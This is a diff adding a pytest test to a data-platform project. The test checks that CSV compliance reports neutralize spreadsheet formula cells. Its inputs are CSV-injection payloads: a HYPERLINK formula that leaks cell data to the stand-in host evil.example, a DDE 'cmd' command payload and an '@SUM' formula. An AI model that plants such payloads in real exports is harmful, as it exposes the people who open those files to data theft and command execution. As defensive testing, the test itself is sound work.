@@ -228,3 +228,32 @@ def test_the_review_reads_a_huge_parquet_file_in_bounded_memory(lake: Platform, 
     assert measured["rows"] == rows and measured["k"] >= 1000
     assert measured["sample_len"] <= 200, "sample cells are cut"
     assert measured["grew_mb"] < 400, measured
+
+
+def test_compliance_report_csv_neutralizes_formula_cells(lake: Platform) -> None:
+    lake.add_user("audrey", "auditor")
+    ada = lake.as_user("ada")
+    for purpose in (
+        '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+        "+cmd|' /C calc'!A0 for the study",
+        "@SUM(1+1) poster",
+    ):
+        made = ada.post(
+            "/api/v1/exports",
+            json={
+                "sql": "SELECT COUNT(*) AS n FROM study.dm",
+                "purpose": purpose,
+                "destination": "-2+3 partner",
+            },
+        )
+        assert made.status_code == 201, made.text
+    text = (
+        lake.as_user("audrey").get("/api/v1/lineage/report", params={"scope": "study", "format": "csv"}).text
+    )
+    rows = [row for row in csv.DictReader(io.StringIO(text)) if row["section"] == "export"]
+    assert len(rows) == 3
+    for row in rows:
+        for cell in row.values():
+            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@")), row
+        assert row["purpose"].startswith("'")
+    assert "\"'=HYPERLINK" in text
